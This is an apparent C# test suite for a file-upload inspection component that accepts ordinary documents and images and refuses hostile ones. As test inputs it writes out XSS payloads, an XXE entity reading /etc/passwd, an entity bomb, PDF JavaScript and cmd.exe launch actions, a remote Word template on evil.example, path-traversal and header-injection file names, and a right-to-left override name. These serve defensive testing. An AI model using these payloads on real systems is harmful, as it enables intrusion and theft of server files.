using System.Text;
using Rathaus.Kernel.Files;
using Rathaus.Kernel.Outcomes;

namespace Rathaus.Kernel.Tests.Files;

/// <summary>Every hostile file is made here, none is stored.</summary>
public sealed class UploadInspectionTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static Task<Outcome<InspectedUpload>> InspectAsync(byte[] content, string name, string? declared = null) =>
        UploadInspection.InspectAsync(new MemoryStream(content), name, declared, Ct);

    private static async Task RefusedAsync(string code, byte[] content, string name, string? declared = null)
    {
        var outcome = await InspectAsync(content, name, declared);
        Assert.False(outcome.Succeeded, $"{name} was taken");
        Assert.Equal(code, outcome.Refusal.Code);
    }

    private static async Task<InspectedUpload> TakenAsync(byte[] content, string name, string? declared = null)
    {
        var outcome = await InspectAsync(content, name, declared);
        Assert.True(outcome.Succeeded, $"{name} was refused: {outcome.Refusal?.Code}");
        return outcome.Value;
    }

    [Theory]
    [InlineData("application/pdf")]
    [InlineData("application/octet-stream")]
    [InlineData("")]
    [InlineData(null)]
    public async Task A_plain_pdf_is_taken_as_it_is(string? declared)
    {
        var pdf = Uploads.Pdf();
        var taken = await TakenAsync(pdf, "Mietvertrag.PDF", declared);
        Assert.Equal(("Mietvertrag.PDF", "application/pdf"), (taken.Name, taken.MediaType));
        Assert.Equal(pdf, taken.Content.ToArray());
    }

    [Fact]
    public async Task Each_kind_we_promise_is_taken()
    {
        await TakenAsync(Uploads.Jpeg(), "foto.jpg", "image/jpeg");
        await TakenAsync(Uploads.Jpeg(), "foto.jpeg", "image/pjpeg");
        await TakenAsync(Uploads.Png(), "bild.png", "image/png");
        await TakenAsync([.. "II*\0"u8, 8, 0, 0, 0, 0, 0], "scan.tif", "image/tiff");
        await TakenAsync([0, 0, 0, 24, .. "ftypheic"u8, 0, 0, 0, 0, .. "mif1heic"u8], "IMG_1.HEIC");
        await TakenAsync(Uploads.Odt(), "brief.odt", "application/vnd.oasis.opendocument.text");
        await TakenAsync(Uploads.Docx(), "brief.docx");
        await TakenAsync("<?xml version=\"1.0\"?><a><b>ä</b></a>"u8.ToArray(), "daten.xml", "text/xml");
        await TakenAsync("Guten Tag,\r\nÄÖÜ ß €\n"u8.ToArray(), "notiz.txt", "text/plain; charset=utf-8");
    }

    [Fact]
    public async Task Empty_and_oversized_files_are_refused_and_the_limit_itself_is_taken()
    {
        await RefusedAsync("upload.empty", [], "leer.pdf");
        var large = new byte[UploadInspection.LargestFile];
        Array.Fill(large, (byte)'a');
        await TakenAsync(large, "gross.txt");
        await RefusedAsync("upload.too-large", [.. large, (byte)'a'], "gross.txt");
        Assert.Equal(RefusalKind.TooLarge, UploadRefusals.TooLarge.Kind);
    }

    [Fact]
    public async Task An_endless_upload_is_cut_off_at_the_limit()
    {
        await using var endless = new Endless();
        var outcome = await UploadInspection.InspectAsync(endless, "a.txt", null, Ct);
        Assert.Equal("upload.too-large", outcome.Refusal!.Code);
        Assert.InRange(endless.Read, UploadInspection.LargestFile, UploadInspection.LargestFile + (256 * 1024));
    }

    [Theory]
    [InlineData("<!DOCTYPE html><p>hi", "seite.html")]
    [InlineData("<html><body onload=alert(1)>", "bild.png")]
    [InlineData("  \n\t<script>alert(1)</script>", "notiz.txt")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "bild.svg")]
    [InlineData("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "bild.xml")]
    [InlineData("<?xml version='1.0'?><x:svg xmlns:x='http://www.w3.org/2000/svg'/>", "bild.xml")]
    [InlineData("<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><a/>", "daten.xml")]
    [InlineData("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "daten.xml")]
    [InlineData("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x 'xx'><!ENTITY y '&x;&x;&x;'>]><a>&y;</a>", "daten.xml")]
    [InlineData("<a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>1</h:script></a>", "daten.xml")]
    public async Task Pages_pictures_with_script_and_document_types_are_active_content(string text, string name)
    {
        await RefusedAsync("upload.active-content", Encoding.UTF8.GetBytes(text), name);
        await RefusedAsync("upload.active-content", [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)], name);
    }

    [Fact]
    public async Task Markup_in_sixteen_bits_is_seen_too() =>
        await RefusedAsync("upload.active-content", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<html><script>")).ToArray(), "a.txt");

    [Fact]
    public async Task Content_extension_and_declared_type_must_agree()
    {
        await RefusedAsync("upload.type-mismatch", Uploads.Png(), "bild.jpg");
        await RefusedAsync("upload.type-mismatch", Uploads.Pdf(), "bild.pdf", "image/png");
        await RefusedAsync("upload.type-mismatch", "MZ\u0090\0"u8.ToArray(), "rechnung.pdf");
        await RefusedAsync("upload.type-mismatch", Uploads.Odt(), "brief.docx");
        await RefusedAsync("upload.type-mismatch", [0, 1, 2, 3], "notiz.txt");
        await RefusedAsync("upload.type-mismatch", [0xFF, 0xFE, 0xFD, 0x41], "notiz.txt");
        await RefusedAsync("upload.type-mismatch", Uploads.Zip(("a.txt", "x")), "brief.docx");
    }

    [Theory]
    [InlineData("rechnung.pdf.exe")]
    [InlineData("makro.docm")]
    [InlineData("archiv.zip")]
    [InlineData("ohne")]
    [InlineData(".pdf.")]
    [InlineData("a.js")]
    public async Task Names_of_other_kinds_are_refused(string name) =>
        await RefusedAsync("upload.type-unknown", Uploads.Pdf(), name);

    [Theory]
    [InlineData("<< /S /JavaScript /JS (app.alert(1)) >>")]
    [InlineData("<< /S /J#61vaScript /JS (app.alert(1)) >>")]
    [InlineData("<< /S /#4a#61#76#61#53#63#72#69#70#74 >>")]
    [InlineData("<< /S /Launch /F (cmd.exe) >>")]
    [InlineData("<< /Type /EmbeddedFile >>")]
    [InlineData("<< /Names << /EmbeddedFiles 5 0 R >> >>")]
    [InlineData("<< /Type/RichMedia >>")]
    [InlineData("<< /AcroForm << /XFA 4 0 R >> >>")]
    public async Task A_pdf_that_acts_is_refused_openly_and_packed(string thing)
    {
        await RefusedAsync("upload.active-content", Uploads.Pdf(thing), "a.pdf");
        await RefusedAsync("upload.active-content", Uploads.PdfWithPacked(thing), "a.pdf");
    }

    [Fact]
    public async Task Protected_cut_and_exploding_pdfs_are_refused()
    {
        await RefusedAsync("upload.protected", Uploads.Pdf("<< /Encrypt 9 0 R >>"), "a.pdf");
        await RefusedAsync("upload.damaged", Uploads.Pdf()[..40], "a.pdf");
        await RefusedAsync("upload.unpacks-too-large", Uploads.PdfWithPacked(new string('x', 120 * 1024 * 1024)), "a.pdf");
        await RefusedAsync("upload.damaged", Uploads.Pdf("<< /Type /ObjStm /Filter /LZWDecode >> stream\n\u0001\u0002\u0003\nendstream"), "a.pdf");
    }

    [Fact]
    public async Task Office_files_with_macros_objects_templates_or_bombs_are_refused()
    {
        await RefusedAsync("upload.macros", Uploads.Docx(("word/vbaProject.bin", "x")), "a.docx");
        await RefusedAsync("upload.macros", Uploads.Docx(("x.rels", "application/vnd.ms-word.document.macroEnabled.main+xml")), "a.docx");
        await RefusedAsync("upload.macros", Uploads.Odt(("Basic/Standard/Module1.xml", "x")), "a.odt");
        await RefusedAsync("upload.macros", Uploads.Odt(("Scripts/python/a.py", "x")), "a.odt");
        await RefusedAsync("upload.active-content", Uploads.Docx(("word/embeddings/a.bin", "x")), "a.docx");
        await RefusedAsync("upload.active-content", Uploads.Docx(("word/activeX/activeX1.xml", "x")), "a.docx");
        await RefusedAsync("upload.active-content", Uploads.Docx(("word/_rels/settings.xml.rels",
            "<Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>")), "a.docx");
        await RefusedAsync("upload.active-content", Uploads.Docx(("word/media/a.png", "PK\u0003\u0004nested")), "a.docx");
        await RefusedAsync("upload.protected", Uploads.Odt(("META-INF/manifest.xml", "<manifest:encryption-data/>")), "a.odt");
        await RefusedAsync("upload.unpacks-too-large", Uploads.Docx(("word/big.xml", new string('0', 30 * 1024 * 1024))), "a.docx");
        await RefusedAsync("upload.unpacks-too-large", Uploads.Docx([.. Enumerable.Range(0, 120).Select(i => ($"word/{i}.xml", "x"))]), "a.docx");
        await RefusedAsync("upload.type-mismatch", Uploads.Docx()[..60], "a.docx");
    }

    [Fact]
    public async Task Photos_lose_place_and_names_but_not_their_orientation()
    {
        var taken = await TakenAsync(Uploads.Jpeg("Erika Mustermann 51.2562 N", orientation: 6), "foto.jpg");
        var text = Encoding.Latin1.GetString(taken.Content.Span);
        Assert.DoesNotContain("Mustermann", text, StringComparison.Ordinal);
        Assert.DoesNotContain("51.2562", text, StringComparison.Ordinal);
        Assert.Contains("\u0001\u0012\0\u0003\0\0\0\u0001\0\u0006", text, StringComparison.Ordinal);
        Assert.Contains("pixels", text, StringComparison.Ordinal);
        Assert.DoesNotContain("trailer", text, StringComparison.Ordinal);

        var png = await TakenAsync(Uploads.Png("Erika Mustermann"), "bild.png");
        Assert.DoesNotContain("Mustermann", Encoding.Latin1.GetString(png.Content.Span), StringComparison.Ordinal);
        Assert.Equal(Uploads.Png(), png.Content.ToArray());
    }

    [Fact]
    public async Task Damaged_pictures_are_refused_wherever_they_are_cut_or_changed()
    {
        var png = Uploads.Png("text");
        var jpeg = Uploads.Jpeg("text");
        for (var cut = 9; cut < png.Length - 1; cut += 7)
            await RefusedAsync("upload.damaged", png[..cut], "a.png");
        for (var cut = 4; cut < jpeg.Length - "trailer".Length - 1; cut += 7)
            await RefusedAsync("upload.damaged", jpeg[..cut], "a.jpg");
        png[20] ^= 1;
        await RefusedAsync("upload.damaged", png, "a.png");
    }

    [Theory]
    [InlineData("../../etc/passwd.pdf", "passwd.pdf")]
    [InlineData(@"C:\Users\erika\Beleg.pdf", "Beleg.pdf")]
    [InlineData("rechnung\u202Efdp.pdf", "rechnungfdp.pdf")]
    [InlineData("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf")]
    [InlineData("  ...  ", "datei")]
    [InlineData("", "datei")]
    [InlineData("Bu\u0308rger.pdf", "Bürger.pdf")]
    [InlineData("😀.pdf", "😀.pdf")]
    [InlineData("a\ud83d.pdf", "a.pdf")]
    public void Names_lose_paths_controls_and_direction_marks(string given, string clean) =>
        Assert.Equal(clean, UploadInspection.CleanName(given));

    [Fact]
    public void A_long_name_keeps_its_extension()
    {
        var clean = UploadInspection.CleanName(string.Concat(Enumerable.Repeat("😀", 200)) + ".pdf");
        Assert.EndsWith(".pdf", clean, StringComparison.Ordinal);
        Assert.True(clean.Length <= 200);
        Assert.Equal(clean, Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(clean)));
    }

    [Fact]
    public async Task Random_bytes_behind_every_magic_number_never_throw()
    {
        var random = new Xoshiro(20260302);
        foreach (var (magic, name) in new (byte[], string)[]
        {
            ("%PDF-1.7"u8.ToArray(), "a.pdf"), ([0xFF, 0xD8, 0xFF], "a.jpg"), (Uploads.Png()[..8], "a.png"),
            ("PK\u0003\u0004"u8.ToArray(), "a.docx"), ("<?xml"u8.ToArray(), "a.xml"), ([], "a.txt"),
        })
        {
            for (var i = 0; i < 300; i++)
            {
                var outcome = await InspectAsync([.. magic, .. random.Bytes(i * 3)], name);
                Assert.True(outcome.Succeeded || outcome.Refusal.Code.StartsWith("upload.", StringComparison.Ordinal));
            }
        }
    }

    private sealed class Xoshiro(ulong state)
    {
        public byte[] Bytes(int count)
        {
            var bytes = new byte[count];
            for (var i = 0; i < count; i++)
            {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                bytes[i] = (byte)state;
            }

            return bytes;
        }
    }

    private sealed class Endless : MemoryStream
    {
        public new long Read { get; private set; }

        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default)
        {
            buffer.Span.Fill((byte)'a');
            Read += buffer.Length;
            return ValueTask.FromResult(buffer.Length);
        }
    }
}
